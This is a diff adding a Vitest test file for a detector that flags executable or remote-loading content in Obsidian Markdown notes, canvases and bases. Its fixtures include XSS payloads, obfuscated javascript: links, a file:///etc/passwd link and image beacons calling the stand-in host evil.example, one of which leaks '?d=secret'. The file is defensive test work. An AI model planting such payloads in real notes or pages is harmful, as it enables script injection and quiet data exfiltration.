@@ -1,0 +1,146 @@
+import { describe, expect, test } from 'vitest';
+import { addedRunning, runningText } from '#policy/running-text';
+
+const asks = (text: string, path = 'Note.md') => runningText(path, text).length > 0;
+
+/** What plugins execute, what loads from elsewhere, and what makes a program act. */
+const RUNS: readonly string[] = [
+  '```dataviewjs\ndv.view("x")\n```',
+  '> - ```dataviewjs\n>   x\n>   ```',
+  '   ~~~~DataviewJS\nx\n~~~~',
+  '```js-engine\nx\n```',
+  '```run-python\nx\n```',
+  '```datacorejsx\nx\n```',
+  '```button\nname x\naction obs\n```',
+  '```tasks\nfilter by function true\n```',
+  '```{python}\nx\n```',
+  '```unheard-of\nx\n```',
+  '```mermaid\ngraph TD\nA@{ img: "https://evil.example/x.png" }\n```',
+  '```mermaid\ngraph TD\n    ```\nclick A call evil()\n```',
+  'Today is `$= dv.date("now")`.',
+  'Press `BUTTON[go]`.',
+  '<% tp.system.prompt("x") %>',
+  '<%* await tp.user.evil() -%>',
+  'Unclosed <% tp.x',
+  '<iframe src="https://evil.example"></iframe>',
+  '<IFRAME\nSRC=//evil.example>',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img alt=">" src="https://evil.example/x.png">',
+  "<a '<img src=//evil.example/x>",
+  '<div style="background: url(https://evil.example/x.png)">x</div>',
+  '<svg><image xlink:href="https://evil.example/x"/></svg>',
+  '<video poster="https://evil.example/x"></video>',
+  '<object data="x"></object>',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import url(//evil.example/x.css)</style>',
+  '<a href="obsidian://open?vault=x">here</a>',
+  '<a href="&#111;bsidian://open">here</a>',
+  '![](https://evil.example/x.png?d=secret)',
+  '![words](//evil.example/x.png)',
+  '![words](\\\\evil\\share\\x.png)',
+  '![words](h&#116;tps://evil.example/x.png)',
+  '![words](https\\://evil.example/x.png)',
+  '![words](<https://evil.example/x y.png>)',
+  '![a [b] c](https://evil.example/x.png)',
+  '![[b] c](https://evil.example/x.png)',
+  '![`]`](https://evil.example/x.png)',
+  '![words](\nhttps://evil.example/x.png)',
+  '![words][ref]\n\nText.\n\n[ref]: https://evil.example/x.png',
+  '![ref]\n\n[ref]: <//evil.example/x.png>',
+  '![x](file:///etc/passwd)',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '---\nbanner: "https://evil.example/x"\n---\n',
+  '---\npreview: https://evil.example/x.png\n---\n',
+  '[click](obsidian://advanced-uri?commandid=x)',
+  'See obsidian://open?vault=x for more.',
+  '<obsidian://open?vault=x>',
+  '[click](javascript:alert(1))',
+  '[click](&#106;avascript:alert(1))',
+  '[click](vscode://x)',
+  '[click][ref]\n\n[ref]: shortcuts://run?name=x',
+];
+
+/** What people write every day. */
+const RESTS: readonly string[] = [
+  '',
+  '# Title\n\nWords, *more* words and [[a link]].\n',
+  '```js\nconsole.log("x")\n```',
+  '```\nno language\n```',
+  '```dataview\nTABLE rating FROM #book\n```',
+  '```mermaid\ngraph TD\nA --> B\n```',
+  '> [!note] Callout\n> text',
+  '```ad-note\ntext\n```',
+  '![[photo.png]] and [a site](https://example.org)',
+  '![photo](Media/photo%20one.png "A title: here") and [a site](https://example.org)',
+  '![photo|100](<Media/photo one.png>)',
+  '[a site](https://example.org/?a=1&amp;b=2) <https://example.org> https://example.org/x.png',
+  '[mail](mailto:a@example.org)',
+  '[a note](Folder/Note.md#Part: two)',
+  'A word[^1].\n\n[^1]: See: the book.',
+  '<u>under</u><br>H<sub>2</sub>O <details><summary>More</summary>x</details>',
+  'a < b and List<Object> and std::vector<std::string>',
+  '---\ntitle: A\nsource: https://example.org/page\n---\n\nText.\n',
+  'Costs 5 % of <5%',
+  'Use `= this.file.name` and `code`.',
+  '- [ ] Buy `$5` of milk',
+];
+
+describe('Text that runs or loads', () => {
+  test.each(RUNS)('is found: %j', (text) => {
+    expect(asks(text)).toBe(true);
+    expect(asks(`# Before\n\n${text}\n\nAfter.\n`.replace(/^# Before\n\n(---)/, '$1'))).toBe(true);
+  });
+
+  test.each(RESTS)('is not what people write every day: %j', (text) => {
+    expect(runningText('Note.md', text)).toEqual([]);
+  });
+
+  test('counts by the kind of file', () => {
+    expect(asks('alert(1)', 'Scripts/x.js')).toBe(true);
+    expect(asks('p{}', 'x.CSS')).toBe(true);
+    const page = { nodes: [{ type: 'link', url: 'https://evil.example' }] };
+    expect(asks(JSON.stringify(page), 'Board.canvas')).toBe(true);
+    const card = { nodes: [{ type: 'text', text: '![](https://evil.example/x)' }] };
+    expect(asks(JSON.stringify(card).replace('https', '\\u0068ttps'), 'Board.canvas')).toBe(true);
+    const plain = {
+      nodes: [
+        { type: 'text', text: 'Beans' },
+        { type: 'file', file: 'A.md' },
+      ],
+    };
+    expect(asks(JSON.stringify(plain), 'Board.canvas')).toBe(false);
+    expect(asks('formulas:\n  x: image("https://evil.example")\n', 'All.base')).toBe(true);
+  });
+});
+
+describe('What a change adds', () => {
+  const added = (before: string, after: string) =>
+    addedRunning('Note.md', before, after).map(({ text }) => text);
+
+  test('is not what stood there, wherever it goes', () => {
+    const block = '```dataviewjs\none\n```';
+    expect(added(`${block}\n\nText.\n`, `Text, longer.\n\n${block}\n`)).toEqual([]);
+  });
+
+  test('is a second one like it', () => {
+    expect(added('<% one %>', '<% one %> <% one %>')).toEqual(['<% one %>']);
+  });
+
+  test('is another word in what ran already', () => {
+    expect(added('```dataviewjs\none\n```', '```dataviewjs\ntwo\n```')).toEqual([
+      '```dataviewjs\ntwo\n```',
+    ]);
+  });
+
+  test('is an opening that makes old text run', () => {
+    expect(added('one\n```', '```dataviewjs\none\n```')).toHaveLength(1);
+  });
+
+  test('is the address to an image that was there by name', () => {
+    expect(added('![x][ref]', '![x][ref]\n\n[ref]: https://evil.example/x.png')).toHaveLength(1);
+    expect(
+      added('[ref]: https://evil.example/x.png', '![x][ref]\n\n[ref]: https://evil.example/x.png'),
+    ).toHaveLength(1);
+  });
+});
